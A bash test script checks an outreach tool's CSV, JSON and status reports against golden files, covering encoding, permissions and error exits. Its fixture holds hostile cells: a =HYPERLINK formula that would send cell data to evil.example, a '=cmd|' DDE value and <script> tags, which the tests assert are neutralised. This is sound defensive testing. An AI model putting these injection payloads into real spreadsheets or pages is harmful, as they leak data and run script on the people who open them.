#!/bin/bash
# t7001-report-golden: 'outreach report' CSV and JSON and 'outreach status' against golden files
# (tests/fixtures/report/), byte for byte, on a fixture campaign five weeks in: offers with
# conditions, a coordinator's answer marked by hand, declines, information requests,
# out-of-office replies, hard and soft bounces, a failed and an unknown message, hostile cells
# (=HYPERLINK, <script>, quotes, newlines) and names in accented Latin, Arabic and CJK.
# The clock is fixed with OUTREACH_NOW. UPDATE_GOLDEN=1 rewrites the golden files instead
# (review the diff before committing it).
. "${0%/*}/../lib.sh"
require_outreach
require_cmd sqlite3 cmp "$PY"

FIX=$TOP/tests/fixtures/report
export OUTREACH_NOW=2027-02-15T10:00:00Z
unset NO_COLOR
"$FIX/make-workspace" "$T/ws" || bail "cannot build the fixture workspace"

# golden NAME FILE: FILE must equal tests/fixtures/report/NAME byte for byte.
golden() {
	if [ -n "${UPDATE_GOLDEN:-}" ]; then
		cp "$2" "$FIX/$1"
		echo "# updated $FIX/$1"
		return 0
	fi
	cmp -s "$FIX/$1" "$2" && return 0
	_assert_fail "$2 differs from tests/fixtures/report/$1" "$(diff -u "$FIX/$1" "$2" | head -n 80)"
}

test_expect_success 'CSV report equals the golden file' '
	"$OUTREACH" -C ws report --format csv >report.csv
	golden report.csv report.csv
'

test_expect_success 'CSV: RFC 4180 with CRLF, one row per contact, every formula cell neutralised' '
	lines=$(wc -l <report.csv)
	crlf=$(grep -c $'"'"'\r$'"'"' report.csv)
	assert_eq "$lines" "$crlf" "every line ends in CRLF"
	assert_eq 20 "$lines" "header and 19 contacts"
	py - report.csv <<-PYEOF
	import csv, sys
	rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
	assert len(rows) == 20, len(rows)
	assert all(len(r) == 20 for r in rows), [len(r) for r in rows]
	bad = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
	assert not bad, bad
	hostile = [r for r in rows if r[7] == "formula@hostile.example.org"][0]
	assert hostile[0] == "'"'"'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\") \"Quoted\" Name", hostile[0]
	assert hostile[4].startswith("<b>Bold</b> & Co <script>"), hostile[4]
	assert hostile[15].startswith("'"'"'=cmd|"), hostile[15]
	names = [r[0] for r in rows]
	for n in ("José Martínez", "Zoë O'"'"'Connor", "Anna Müller", "武 中村", "伟 王", "أحمد الفارسي"):
	    assert n in names, n
	PYEOF
'

test_expect_success '--bom puts a UTF-8 byte-order mark before the same bytes' '
	"$OUTREACH" -C ws report --format csv --bom >bom.csv
	assert_eq efbbbf "$(head -c 3 bom.csv | od -An -tx1 | tr -d " \n")"
	tail -c +4 bom.csv >nobom.csv
	cmp report.csv nobom.csv
'

test_expect_success 'JSON report equals the golden file and is valid JSON with the documented fields' '
	"$OUTREACH" -C ws report --format json >report.json
	golden report.json report.json
	py - report.json <<-PYEOF
	import json, sys
	d = json.load(open(sys.argv[1], encoding="utf-8"))
	assert list(d) == ["version", "campaign", "generated_at", "timezone", "summary", "contacts"], list(d)
	assert d["generated_at"] == "2027-02-15T10:00:00Z"
	fields = ["email", "name", "first_name", "last_name", "title", "specialty", "department", "hospital",
	          "city", "state", "country", "status", "status_text", "enrollment", "first_sent", "last_sent",
	          "steps_sent", "next_due", "reply_label", "label_manual", "reply_date", "days_to_reply",
	          "reply_from", "reply_snippet", "reply_text", "conditions", "bounce_reason", "return_date",
	          "manual_note", "replies"]
	for c in d["contacts"]:
	    assert list(c) == fields, (c["email"], list(c))
	by = {c["email"]: c for c in d["contacts"]}
	assert by["tnakamura@goldengate.example.org"]["reply_text"].startswith("Yes — you can join")
	assert "<script>alert(1)</script>" in by["tnakamura@goldengate.example.org"]["reply_text"]
	assert by["dgreene@riverside.example.org"]["label_manual"] is True
	assert by["dgreene@riverside.example.org"]["reply_from"] == "Jane Park <jane.park@riverside.example.org>"
	s = d["summary"]
	assert sum(s[k] for k in ("offers", "info_requests", "declines", "other_replies", "out_of_office", "bounced",
	           "failed", "unknown", "no_answer", "paused", "stopped", "do_not_contact", "not_sent")) == s["contacts"]
	PYEOF
'

test_expect_success 'status on a pipe: plain text equal to the golden file' '
	"$OUTREACH" -C ws status >status.txt
	golden status.txt status.txt
	assert_file_not_contains status.txt $'"'"'\033'"'"'
'

test_expect_success 'status on a terminal is coloured, unless NO_COLOR is set' '
	TERM=xterm script -qec "$OUTREACH -C ws status" /dev/null >tty.txt
	assert_file_contains tty.txt $'"'"'\033[32m'"'"'
	NO_COLOR=1 TERM=xterm script -qec "$OUTREACH -C ws status" /dev/null >nocolor.txt
	assert_file_not_contains nocolor.txt $'"'"'\033['"'"'
	assert_file_contains nocolor.txt "Offers (4)"
'

test_expect_success '-o writes the file privately and atomically, and says where' '
	mkdir -p out
	"$OUTREACH" -C ws report --format json -o out/r.json 2>err.txt
	cmp report.json out/r.json
	assert_eq 600 "$(stat -c %a out/r.json)"
	assert_file_contains err.txt "report written to out/r.json"
	assert_eq "r.json" "$(ls -A out)"
	"$OUTREACH" -C ws report -o out/r.html 2>err.txt
	assert_file_contains out/r.html "<!DOCTYPE html>"
	assert_file_contains err.txt "HTML"
'

test_expect_success 'usage errors exit 64 with a hint' '
	assert_exit 64 "$OUTREACH" -C ws report
	assert_file_contains "$T/stderr" "say which format"
	assert_exit 64 "$OUTREACH" -C ws report --format xml
	assert_file_contains "$T/stderr" "csv, json or html"
	assert_exit 64 "$OUTREACH" -C ws report --format json --bom
	assert_exit 64 "$OUTREACH" -C ws report --format csv --campaign nosuch
	assert_exit 64 "$OUTREACH" -C ws status extra
'

test_expect_success 'a campaign nobody was imported into gives empty reports, not errors' '
	"$OUTREACH" init empty >/dev/null
	cp "$FIX/outreach.conf" empty/outreach.conf
	chmod 600 empty/outreach.conf
	"$OUTREACH" -C empty report --format csv >e.csv
	assert_eq 1 "$(wc -l <e.csv)"
	"$OUTREACH" -C empty report --format json >e.json
	py -c "import json,sys; d=json.load(open(\"e.json\")); assert d[\"contacts\"] == [] and d[\"summary\"][\"reply_rate\"] is None, d"
	"$OUTREACH" -C empty report --format html >e.html
	assert_file_contains e.html "No attendings yet"
	"$OUTREACH" -C empty status >e.txt
	assert_file_contains e.txt "Planned"
'

test_done
